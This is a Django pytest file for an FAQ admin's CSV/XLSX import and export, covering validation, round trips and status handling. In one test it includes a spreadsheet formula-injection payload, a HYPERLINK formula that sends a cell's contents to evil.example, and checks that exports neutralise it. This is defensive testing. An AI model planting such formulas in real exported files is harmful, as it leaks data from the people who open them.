from __future__ import annotations

import pytest
import tablib
from django.contrib.messages import get_messages
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse

from apps.faqs.models import Faq, FaqStatus
from tests.factories import CategoryFactory, FaqAlternativeFactory, FaqFactory

pytestmark = pytest.mark.django_db

COLUMNS = ("id", "category", "question", "answer", "alternatives", "status", "channels")
FORMATS = {"csv": 0, "xlsx": 1}  # FaqAdmin.formats order


@pytest.fixture
def categories(db) -> None:
    CategoryFactory(name="배송")
    CategoryFactory(name="결제")


def _rows(n: int = 100) -> tablib.Dataset:
    data = tablib.Dataset(
        headers=["category", "question", "answer", "alternatives", "status", "channels"]
    )
    for i in range(1, n + 1):
        data.append(
            [
                "배송" if i % 2 else "결제",
                f"질문 {i}번",
                f"답변 {i}번입니다.",
                f"대체 {i}-가 | 대체 {i}-나" if i % 3 else f"대체 {i}-가\n대체 {i}-나",
                "review" if i % 5 == 0 else ("검토 중" if i % 7 == 0 else "draft"),
                "web, mobile",
            ]
        )
    return data


def _file(data: tablib.Dataset, fmt: str) -> SimpleUploadedFile:
    content = data.export(fmt)
    if isinstance(content, str):
        content = content.encode("utf-8")
    return SimpleUploadedFile(f"faqs.{fmt}", content)


def _dry_run(client: Client, upload: SimpleUploadedFile, fmt: str):
    data = {"import_file": upload, "format": FORMATS[fmt], "resource": 0}
    return client.post(reverse("admin:faqs_faq_import"), data)


def _import(client: Client, upload: SimpleUploadedFile, fmt: str):
    response = _dry_run(client, upload, fmt)
    assert response.status_code == 200
    confirm = response.context.get("confirm_form")
    assert confirm is not None, _messages(response)
    return client.post(reverse("admin:faqs_faq_process_import"), confirm.initial, follow=True)


def _export(client: Client, fmt: str) -> bytes:
    data = {"format": FORMATS[fmt], "resource": 0, **{f"faqresource_{c}": "on" for c in COLUMNS}}
    response = client.post(reverse("admin:faqs_faq_export"), data)
    assert response.status_code == 200
    return response.content


def _messages(response) -> list[str]:
    return [str(m) for m in get_messages(response.wsgi_request)]


def _contents() -> list[tuple[object, ...]]:
    return [
        (
            f.category.name,
            f.question,
            f.answer,
            f.status,
            tuple(f.channels),
            tuple(a.text for a in f.alternatives.all()),
        )
        for f in Faq.objects.order_by("question").prefetch_related("alternatives")
    ]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_it_imports_a_good_file_completely(fmt, categories, client_as_supervisor, supervisor):
    response = _import(client_as_supervisor, _file(_rows(), fmt), fmt)

    assert response.status_code == 200
    assert Faq.objects.count() == 100
    faq = Faq.objects.get(question="질문 3번")
    assert list(faq.alternatives.values_list("text", flat=True)) == ["대체 3-가", "대체 3-나"]
    assert (faq.author, faq.edited_by, faq.channels) == (supervisor, supervisor, ["web", "mobile"])
    assert Faq.objects.get(question="질문 7번").status == FaqStatus.REVIEW  # Korean label


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize(
    ("column", "bad_value", "field", "message"),
    [
        (0, "없는카테고리", "category", "카테고리 '없는카테고리'이(가) 없습니다"),
        (1, "", "question", "question"),
        (4, "published", "status", "가져오기로 게시할 수 없습니다"),
    ],
)
def test_it_imports_nothing_when_one_row_is_bad(
    fmt, column, bad_value, field, message, categories, client_as_supervisor
):
    data = _rows()
    row = list(data[41])
    row[column] = bad_value
    data[41] = row  # data row 42, which is line 43 of the file under the header

    response = _dry_run(client_as_supervisor, _file(data, fmt), fmt)

    assert response.status_code == 200
    assert response.context.get("confirm_form") is None
    summary = " ".join(_messages(response))
    assert f"43행 {field}" in summary
    assert message in summary or message in response.content.decode()
    assert Faq.objects.count() == 0


def test_it_refuses_the_confirm_step_for_a_file_that_went_bad(categories, client_as_supervisor):
    response = _dry_run(client_as_supervisor, _file(_rows(3), "csv"), "csv")
    confirm = dict(response.context.get("confirm_form").initial)
    # The category disappears between the preview and the confirmation.
    Faq.objects.all().delete()
    from apps.faqs.models import Category

    Category.objects.filter(name="결제").delete()

    response = client_as_supervisor.post(
        reverse("admin:faqs_faq_process_import"), confirm, follow=True
    )

    assert any("아무것도 가져오지 않았습니다" in m for m in _messages(response))
    assert Faq.objects.count() == 0


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_it_round_trips_export_and_import(fmt, client_as_supervisor):
    for i in range(20):
        status = [FaqStatus.PUBLISHED, FaqStatus.DRAFT, FaqStatus.ARCHIVED][i % 3]
        FaqAlternativeFactory(faq=FaqFactory(status=status, answer=f"여러 줄\n답변 {i}"))
    before = _contents()

    exported = _export(client_as_supervisor, fmt)
    response = _import(client_as_supervisor, SimpleUploadedFile(f"e.{fmt}", exported), fmt)

    assert response.status_code == 200
    assert Faq.objects.count() == 20
    assert _contents() == before


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_formula_like_faq_text_exports_as_text_and_round_trips(fmt, client_as_supervisor):
    # FAQ text can come from customers' chat (mined candidates): Excel must not run it.
    formula = '=HYPERLINK("https://evil.example/?d="&D3,"요금제 변경")'
    faq = FaqFactory(question=formula, answer="-2-3")
    FaqAlternativeFactory(faq=faq, text="@A1")
    before = _contents()

    exported = _export(client_as_supervisor, fmt)
    data = tablib.Dataset().load(exported if fmt == "xlsx" else exported.decode(), format=fmt)
    response = _import(client_as_supervisor, SimpleUploadedFile(f"e.{fmt}", exported), fmt)

    assert data["question"] == ["'" + formula]
    assert data["answer"] == ["'-2-3"]
    assert response.status_code == 200
    assert _contents() == before


def test_it_matches_rows_without_ids_by_question(categories, client_as_supervisor):
    _import(client_as_supervisor, _file(_rows(10), "csv"), "csv")
    data = _rows(10)
    row = list(data[0])
    row[2] = "고친 답변"
    data[0] = row

    _import(client_as_supervisor, _file(data, "csv"), "csv")

    assert Faq.objects.count() == 10
    assert Faq.objects.get(question="질문 1번").answer == "고친 답변"


def test_it_sends_a_published_faq_changed_by_import_back_to_review(client_as_supervisor):
    faq = FaqFactory(status=FaqStatus.PUBLISHED)
    exported = _export(client_as_supervisor, "csv").decode("utf-8-sig")
    edited = exported.replace("답변입니다.", "새 답변입니다.")

    _import(client_as_supervisor, SimpleUploadedFile("e.csv", edited.encode()), "csv")

    faq.refresh_from_db()
    assert (faq.answer, faq.status) == ("새 답변입니다.", FaqStatus.REVIEW)


def test_it_never_writes_ids_from_the_file(categories, client_as_supervisor):
    data = tablib.Dataset(headers=["id", "category", "question", "answer"])
    data.append(["9999", "배송", "새 질문", "새 답변"])

    _import(client_as_supervisor, _file(data, "csv"), "csv")

    assert Faq.objects.get(question="새 질문").pk != 9999
